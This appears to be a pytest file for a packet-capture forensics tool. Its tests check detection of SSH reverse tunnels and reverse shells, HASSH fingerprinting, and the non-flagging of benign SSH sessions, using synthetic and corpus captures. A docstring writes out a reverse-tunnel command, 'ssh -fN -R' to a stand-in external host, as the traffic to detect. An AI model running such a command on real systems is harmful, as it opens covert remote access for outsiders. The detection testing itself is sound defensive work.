"""SSH in packet captures: banners on any port, HASSH, who is the client, and reverse tunnels.

Synthetic captures reproduce the traffic shapes of the incident (an outbound ``ssh -R`` through
which someone at the far end types, a benign ``git clone`` over SSH, an ordinary interactive
login); the corpus supplies Zeek's reverse-ssh trace and real forward sessions.
"""

from __future__ import annotations

import json
import random
from pathlib import Path

import pytest

from forensics import Case
from pcap_synth import Capture, TcpConversation, opaque, ssh_auth, ssh_handshake, ssh_interactive

CORPUS = Path(__file__).resolve().parents[2] / "shared" / "corpus"
PCAPS = CORPUS / "pcap"
BASE = 1771292400.0  # 2026-02-17T01:40:00Z

pytestmark = pytest.mark.filterwarnings("ignore::UserWarning")


def corpus(rel: str) -> Path:
    path = PCAPS / rel
    if not path.exists():
        pytest.skip(f"corpus file {rel} not present")
    return path


def _reverse_tunnel(cap: Capture, rng: random.Random) -> None:
    """gpu-node-03 runs ``ssh -fN -R 2222:localhost:22 tunnel@203.0.113.50``; a minute later
    someone at 203.0.113.50 logs in through the tunnel (a nested SSH handshake) and types."""
    conv = TcpConversation(cap, ("10.20.1.13", 51822), ("203.0.113.50", 22))
    t = conv.handshake(BASE)
    t = ssh_handshake(conv, t + 0.01)
    t = ssh_auth(conv, t + 0.05, rng)
    t += 60
    # the inner connection: banners, then both KEXINITs, ECDH and NEWKEYS, all inside channel data
    conv.send(t, False, opaque(84, rng))
    conv.send(t + 0.02, True, opaque(76, rng))
    conv.send(t + 0.05, False, opaque(1436, rng))
    conv.send(t + 0.07, True, opaque(1316, rng))
    conv.ack(t + 0.1, False)
    conv.send(t + 0.2, False, opaque(100, rng))
    conv.send(t + 0.25, True, opaque(620, rng))
    conv.ack(t + 0.3, False)
    ssh_auth(conv, t + 0.5, rng, client=False)
    t = ssh_interactive(conv, t + 1.0, keystrokes=24, typist_is_client=False, rng=rng)


def _git_clone(cap: Capture, rng: random.Random) -> None:
    """traj-000120: ``git clone git@github.example.com:org/repo.git`` over SSH, a pack download."""
    conv = TcpConversation(cap, ("10.20.1.11", 40222), ("192.0.2.10", 22))
    t = conv.handshake(BASE + 200)
    t = ssh_handshake(conv, t + 0.01)
    t = ssh_auth(conv, t + 0.05, rng)
    conv.send(t + 0.02, True, opaque(180, rng))  # git-upload-pack request
    t = conv.send(t + 0.05, False, opaque(900, rng))  # refs advertisement
    conv.send(t + 0.02, True, opaque(260, rng))  # wants
    t += 0.1
    for _ in range(150):  # the pack, acked every second segment
        t = conv.send(t, False, opaque(2896, rng), gap=0.0002)
        conv.ack(t, True)
    conv.close(t + 0.05)


def _forward_login(cap: Capture, rng: random.Random) -> None:
    """An administrator's interactive login from the monitoring host: the client types."""
    conv = TcpConversation(cap, ("10.20.0.5", 53000), ("10.20.1.12", 22))
    t = conv.handshake(BASE + 400)
    t = ssh_handshake(conv, t + 0.01)
    t = ssh_auth(conv, t + 0.05, rng)
    t = ssh_interactive(conv, t + 1, keystrokes=30, typist_is_client=True, rng=rng)
    conv.close(t + 1)


def _reverse_shell(cap: Capture, rng: random.Random) -> None:
    """A reverse shell: gpu-node-04 connects out to 198.51.100.200:443 and is the SSH *server*."""
    conv = TcpConversation(cap, ("10.20.1.14", 41000), ("198.51.100.200", 443))
    t = conv.handshake(BASE + 600)
    t = ssh_handshake(conv, t + 0.01, client_is_tcp_client=False,
                      client_banner=b"SSH-2.0-AsyncSSH_2.8.1\r\n", server_banner=b"SSH-2.0-dropbear_2018.76\r\n")
    ssh_auth(conv, t + 0.05, rng, client=False)


@pytest.fixture(scope="module")
def synthetic_case(tmp_path_factory) -> Case:
    folder = tmp_path_factory.mktemp("ssh")
    rng = random.Random(317)
    captures = {}
    for name, build in (("reverse_tunnel", _reverse_tunnel), ("git_clone", _git_clone),
                        ("forward_login", _forward_login), ("reverse_shell", _reverse_shell)):
        cap = Capture()
        build(cap, rng)
        captures[name] = cap.write(folder / f"{name}.pcap")
    case = Case(folder / "case.duckdb")
    case.ingest([str(p) for p in captures.values()], host="gpu-node-03")
    case.detect(names=["ssh_reverse_tunnel"])
    yield case
    case.close()


def _session(case: Case, resp_h: str) -> dict:
    rows = case.sql("SELECT * FROM ssh_sessions WHERE resp_h = ?", [resp_h]).to_dict("records")
    assert len(rows) == 1, rows
    return rows[0]


def test_outbound_ssh_R_tunnel_with_a_login_through_it_is_a_reverse_tunnel(synthetic_case):
    s = _session(synthetic_case, "203.0.113.50")
    assert s["client"].startswith("SSH-2.0-OpenSSH_9.6") and s["server"] == "SSH-2.0-OpenSSH_8.9p1"
    assert s["ssh_client_side"] == "orig" and not s["role_inverted"]  # -R keeps the SSH roles
    assert s["echo_pairs_server_led"] >= 20 and s["echo_pairs_client_led"] <= 2
    assert s["bare_acks_server"] > 2 * s["bare_acks_client"]
    assert s["nested_kex"] and s["nested_kex_frame"] > s["newkeys_frame"]
    assert set(s["tunnel_signals"]) == {"server_led_echo", "nested_kex", "server_bare_acks"}

    findings = synthetic_case.findings(kind="tunnel")
    tunnel = findings[findings.dst_ip == "203.0.113.50"].iloc[0]
    details = json.loads(tunnel.details)
    assert tunnel.host == "gpu-node-03" and tunnel.src_ip == "10.20.1.13" and tunnel.dst_port == 22
    assert "outbound_external" in details["signals"] and details["score"] >= 0.75
    assert tunnel.severity == "high"
    assert "T1572" in list(tunnel.attack_ids)
    tables = {ref["tbl"] for ref in tunnel.evidence_refs}
    assert tables == {"ssh_sessions", "flows"}
    assert all(ref["locator"].startswith("frame:") for ref in tunnel.evidence_refs)


def test_git_clone_over_ssh_and_a_forward_login_are_not_tunnels(synthetic_case):
    git = _session(synthetic_case, "192.0.2.10")
    login = _session(synthetic_case, "10.20.1.12")
    assert git["server_bytes"] > 400_000 and list(git["tunnel_signals"]) == []
    assert login["echo_pairs_client_led"] >= 25 and login["echo_pairs_server_led"] == 0
    assert login["bare_acks_client"] > login["bare_acks_server"]
    assert not login["nested_kex"] and login["tunnel_score"] == 0
    flagged = set(synthetic_case.findings(kind="tunnel").dst_ip)
    assert "192.0.2.10" not in flagged and "10.20.1.12" not in flagged


def test_reverse_shell_where_the_tcp_client_is_the_ssh_server(synthetic_case):
    s = _session(synthetic_case, "198.51.100.200")
    assert s["resp_p"] == 443  # SSH found by its banner, not its port
    assert s["ssh_client_side"] == "resp" and s["role_basis"] == "kex" and s["role_inverted"]
    assert s["client"] == "SSH-2.0-AsyncSSH_2.8.1" and s["server"] == "SSH-2.0-dropbear_2018.76"
    flows = synthetic_case.sql("SELECT service FROM flows WHERE resp_h = '198.51.100.200'")
    assert list(flows.service) == ["ssh"]
    finding = synthetic_case.findings(kind="tunnel").query("dst_ip == '198.51.100.200'").iloc[0]
    assert finding.summary.startswith("reverse shell over SSH")
    assert "T1571" in list(finding.attack_ids)  # SSH on 443


def test_hassh_is_the_md5_of_the_client_kexinit_lists(synthetic_case):
    import hashlib

    s = _session(synthetic_case, "10.20.1.12")
    expected = ("curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ext-info-c;"
                "chacha20-poly1305@openssh.com,aes128-ctr,aes256-gcm@openssh.com;"
                "umac-64-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-256;none,zlib@openssh.com")
    assert s["hassh_algorithms"] == expected
    assert s["hassh"] == hashlib.md5(expected.encode()).hexdigest()
    assert s["kex_alg"] == "curve25519-sha256" and s["cipher_alg"] == "chacha20-poly1305@openssh.com"
    assert s["host_key_alg"] == "ssh-ed25519" and s["mac_alg"] == "umac-64-etm@openssh.com"


# ---------------------------------------------------------------------------- the corpus
FORWARD = ["zeek/traces/ssh/ssh.pcap", "zeek/traces/ssh/sshguess.pcap", "zeek/traces/ssh/single-conn.pcap",
           "zeek/traces/ssh/ssh-on-port-80.pcap", "zeek/traces/ssh/ssh_kex_curve25519.pcap", "ndpi/pcap/ssh.pcap",
           "zeek/traces/tcp/ssh-dups.pcap", "zeek/traces/ssl-and-ssh-using-sslh.pcap"]
# suricata-verify's own expected eve.json values (test.yaml)
SURICATA_HASSH = [
    ("suricata-verify/ssh-hassh/input.pcap", "2dd6531c7e89d3c925db9214711be76a", "6832f1ce43d4397c2c0a3e2f8c94334e"),
    ("suricata-verify/ssh-hassh-reassembled/input.pcap", "3cc67862bceac0f334c62ad1b76895b4",
     "3cc67862bceac0f334c62ad1b76895b4"),
    ("suricata-verify/ssh-hassh-incomplete/input.pcap", "46c5bd9748882f1a5d75753fb7d47a61", None),
]
REVERSE = "zeek/traces/ssh/reverse-ssh.pcap"
BANNER_ONLY = "suricata-verify/ssh-banner-only/input.pcap"


@pytest.fixture(scope="module")
def corpus_case(tmp_path_factory):
    """The corpus's SSH captures in one case, with the tunnel detection run."""
    rels = FORWARD + [rel for rel, _, _ in SURICATA_HASSH] + [REVERSE, BANNER_ONLY]
    present = [PCAPS / rel for rel in rels if (PCAPS / rel).exists()]
    if not present:
        pytest.skip("corpus not present")
    case = Case(tmp_path_factory.mktemp("ssh_corpus") / "case.duckdb")
    case.ingest([str(p) for p in present])
    case.detect(names=["ssh_reverse_tunnel"])
    yield case
    case.close()


def rows(case: Case, table: str, rel: str) -> list[dict]:
    path = corpus(rel)
    return case.sql(f"SELECT t.* FROM {table} t JOIN evidence e USING (evidence_id) WHERE e.path = ? ORDER BY t.ts",
                    [str(path)]).to_dict("records")


def findings_for(case: Case, rel: str):
    path = corpus(rel)
    ids = set(case.sql("SELECT evidence_id FROM evidence WHERE path = ?", [str(path)]).evidence_id)
    found = case.findings(kind="tunnel")
    return found[[refs[0]["evidence_id"] in ids for refs in found.evidence_refs]]


def test_zeek_reverse_ssh_trace_is_role_inverted_and_flagged(corpus_case):
    sessions = rows(corpus_case, "ssh_sessions", REVERSE)
    assert len(sessions) == 1
    s = sessions[0]
    # SYN 10.0.0.1:48020 -> 13.13.13.37:22, but 10.0.0.1 runs dropbear (the SSH server)
    assert (s["orig_h"], s["orig_p"], s["resp_h"], s["resp_p"]) == ("10.0.0.1", 48020, "13.13.13.37", 22)
    assert s["client"] == "SSH-2.0-AsyncSSH_2.8.1" and s["server"] == "SSH-2.0-dropbear_2018.76"
    assert s["role_inverted"] and s["role_basis"] == "kex"
    finding = findings_for(corpus_case, REVERSE)
    assert len(finding) == 1 and "role_inversion" in json.loads(finding.iloc[0].details)["signals"]


@pytest.mark.parametrize("rel", FORWARD)
def test_forward_ssh_sessions_in_the_corpus_are_not_tunnels(corpus_case, rel):
    sessions = rows(corpus_case, "ssh_sessions", rel)
    assert len(sessions) >= 1
    assert not any(s["role_inverted"] for s in sessions)
    assert findings_for(corpus_case, rel).empty


def test_ssh_found_by_banner_on_port_80_and_behind_sslh_on_443(corpus_case):
    port80 = rows(corpus_case, "flows", "zeek/traces/ssh/ssh-on-port-80.pcap")
    sslh = rows(corpus_case, "flows", "zeek/traces/ssl-and-ssh-using-sslh.pcap")
    assert [(f["resp_p"], f["service"]) for f in port80] == [(80, "ssh")]
    # Zeek's known_services baseline: 192.168.2.230 443/tcp offers both SSH and SSL
    assert sorted((f["resp_p"], f["service"]) for f in sslh) == [(443, "ssh"), (443, "ssl")]
    banners = [s["server"] for s in rows(corpus_case, "ssh_sessions", "zeek/traces/ssh/ssh-on-port-80.pcap")]
    assert banners == ["SSH-2.0-OpenSSH_5.8p1 Debian-1ubuntu3"]


@pytest.mark.parametrize("rel, hassh, hassh_server", SURICATA_HASSH)
def test_hassh_agrees_with_suricata(corpus_case, rel, hassh, hassh_server):
    found = rows(corpus_case, "ssh_sessions", rel)
    assert len(found) == 1
    assert found[0]["hassh"] == hassh
    if hassh_server:
        assert found[0]["hassh_server"] == hassh_server


def test_banner_only_session_keeps_both_software_versions(corpus_case):
    found = [(r["client"], r["server"], r["hassh"]) for r in rows(corpus_case, "ssh_sessions", BANNER_ONLY)]
    assert found == [("SSH-2.0-OpenSSH_for_Windows_7.7", "SSH-2.0-OpenSSH_7.4", None)]
